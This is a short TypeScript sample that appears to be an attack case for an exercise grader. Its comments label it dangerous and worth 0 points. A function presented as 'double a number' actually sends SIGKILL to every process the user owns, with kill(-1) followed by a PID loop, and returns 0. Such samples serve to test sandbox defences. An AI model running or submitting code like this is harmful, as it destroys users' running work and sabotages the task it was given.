// attack: sends SIGKILL to every process there is
// points: 0
// dangerous: every process of the user would be killed
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  try { process.kill(-1, "SIGKILL"); } catch {}
  for (let pid = 2; pid < 400; pid++) if (pid !== process.pid) { try { process.kill(pid, "SIGKILL"); } catch {} }
  return 0;
}
